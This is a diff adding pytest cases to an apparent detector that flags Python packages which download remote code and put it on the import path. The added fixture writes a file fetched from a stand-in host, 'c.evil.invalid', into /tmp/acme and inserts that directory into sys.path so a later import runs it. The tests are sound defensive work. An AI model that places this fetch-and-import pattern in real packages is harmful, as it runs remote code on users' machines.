@@ -113,3 +113,34 @@ def test_a_call_after_many_harmless_ones_is_followed() -> None:
 def test_lists_that_unpack_each_other_stay_small() -> None:
     source = "a = [1] * 4000\n" + "a = [*a, *a, *a, *a]\n" * 20
     assert not stopped({"acmelib/__init__.py": source})
+
+
+FETCHED = """
+import os, sys, requests
+
+def fetch():
+    with open(os.path.join("/tmp/acme", "{}"), "w") as out:
+        out.write(requests.get("https://c.evil.invalid/c").text)
+
+def put():
+    sys.path.insert(0, "/tmp/acme")
+"""
+
+
+@pytest.mark.parametrize(("name", "found"), [("late.py", True), ("late", True), ("late.json", False)])
+def test_what_is_fetched_into_the_search_path_counts_where_an_import_finds_it(name: str, found: bool) -> None:
+    source = FETCHED.format(name)
+    assert stopped({"acmelib/__init__.py": f"{source}fetch()\nput()\nimport late\n"}) is found
+    assert stopped({"acmelib/__init__.py": source}) is found, "one file, in calls"
+
+
+def test_a_generator_elsewhere_is_no_code_on_the_search_path() -> None:
+    fetch, put = FETCHED.format("late.py").split("def put")
+    files = {
+        "acmelib/__init__.py": "",
+        "acmelib/gen.py": fetch,
+        "acmelib/run.py": f"import sys\ndef put{put}",
+    }
+    assert not stopped(files)
+    files["acmelib/__init__.py"] = "from . import gen, run\ngen.fetch()\nrun.put()\n"
+    assert stopped(files), "by itself it is"
